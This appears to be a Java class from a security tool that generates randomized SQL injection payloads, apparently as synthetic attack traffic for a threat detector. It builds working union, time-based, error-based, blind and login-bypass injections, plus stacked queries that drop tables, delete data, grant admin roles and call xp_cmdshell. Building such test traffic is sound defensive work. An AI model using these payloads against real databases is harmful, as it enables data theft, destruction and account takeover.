package ai.kongguard.traffic.attack;

import ai.kongguard.event.ThreatType;
import ai.kongguard.traffic.Pick;
import java.util.List;
import java.util.SplittableRandom;
import java.util.function.Function;

/** Breaking out of a literal, then asking the database for more. */
final class SqlInjection {

    static final List<AttackFamily> FAMILIES = List.of(
            family("sql_boolean", SqlInjection::always),
            family("sql_union", SqlInjection::union),
            family("sql_time", SqlInjection::time),
            family("sql_stacked", SqlInjection::stacked),
            family("sql_error", SqlInjection::error),
            family("sql_login", SqlInjection::login),
            family("sql_subquery", SqlInjection::subquery).reservedForSimulation());

    private SqlInjection() {}

    private static AttackFamily family(String name, Function<SplittableRandom, String> payload) {
        return AttackFamily.of(name, ThreatType.SQL_INJECTION, payload);
    }

    private static String always(SplittableRandom r) {
        int n = Pick.number(r, 1, 9_999);
        String word = Pick.letters(r, 3);
        return Pick.one(
                r,
                breakOut(r) + " OR " + n + "=" + n + comment(r),
                Pick.number(r, 1, 500) + "' OR '" + word + "'='" + word,
                Pick.number(r, 1, 500) + "\" OR \"" + word + "\"=\"" + word,
                breakOut(r) + " AND " + n + ">" + (n - 1) + comment(r),
                breakOut(r) + " OR '" + word + "' LIKE '" + word.charAt(0) + "%'" + comment(r),
                Pick.number(r, 1, 500) + " OR " + n + " BETWEEN " + (n - 3) + " AND " + (n + 3));
    }

    private static String union(SplittableRandom r) {
        StringBuilder columns = new StringBuilder("NULL");
        int count = Pick.number(r, 1, 8);
        int shown = Pick.number(r, 0, count);
        for (int i = 0; i < count; i++) {
            columns.append(',').append(i == shown ? secret(r) : Pick.one(r, "NULL", Integer.toString(i), "'a'"));
        }
        return breakOut(r) + " UNION " + Pick.one(r, "", "ALL ") + "SELECT " + columns + " FROM " + table(r)
                + comment(r);
    }

    private static String time(SplittableRandom r) {
        int seconds = Pick.number(r, 3, 15);
        return breakOut(r)
                + Pick.one(
                        r,
                        " AND SLEEP(" + seconds + ")",
                        " AND (SELECT 1 FROM (SELECT SLEEP(" + seconds + "))x)",
                        "; WAITFOR DELAY '0:0:" + seconds + "'",
                        " AND 1=(SELECT 1 FROM pg_sleep(" + seconds + "))",
                        " AND BENCHMARK(" + seconds + "000000,MD5('a'))")
                + comment(r);
    }

    private static String stacked(SplittableRandom r) {
        return breakOut(r) + "; "
                + Pick.one(
                        r,
                        "DROP TABLE " + table(r),
                        "UPDATE users SET role='admin' WHERE id=" + Pick.number(r, 1, 99),
                        "INSERT INTO users(name,role) VALUES('" + Pick.letters(r, 5) + "','admin')",
                        "EXEC xp_cmdshell('whoami')",
                        "DELETE FROM " + table(r))
                + comment(r);
    }

    private static String error(SplittableRandom r) {
        return breakOut(r)
                + Pick.one(
                        r,
                        " AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT " + secret(r) + ")))",
                        " AND UPDATEXML(1,CONCAT(0x7e," + secret(r) + "),1)",
                        " AND 1=CONVERT(int,(SELECT @@version))",
                        " AND CAST((SELECT " + secret(r) + ") AS int)=1")
                + comment(r);
    }

    private static String login(SplittableRandom r) {
        return Pick.one(r, "admin", "root", "administrator") + Pick.one(r, "'-- -", "'#", "' OR 1=1-- -", "'/*");
    }

    private static String subquery(SplittableRandom r) {
        return breakOut(r) + " AND ASCII(SUBSTRING((SELECT " + secret(r) + " FROM " + table(r) + " LIMIT 1),"
                + Pick.number(r, 1, 30) + ",1))>" + Pick.number(r, 32, 126) + comment(r);
    }

    private static String breakOut(SplittableRandom r) {
        return Pick.number(r, 1, 999) + Pick.one(r, "'", "'", "\"", "", "')", "'))", "%'");
    }

    private static String comment(SplittableRandom r) {
        return Pick.one(r, "-- -", "--", "#", "/*", "-- " + Pick.letters(r, 4));
    }

    private static String secret(SplittableRandom r) {
        return Pick.one(r, "password", "@@version", "user()", "database()", "table_name", "email", "current_user");
    }

    private static String table(SplittableRandom r) {
        return Pick.one(r, "users", "accounts", "information_schema.tables", "customers", "orders", "sysobjects");
    }
}
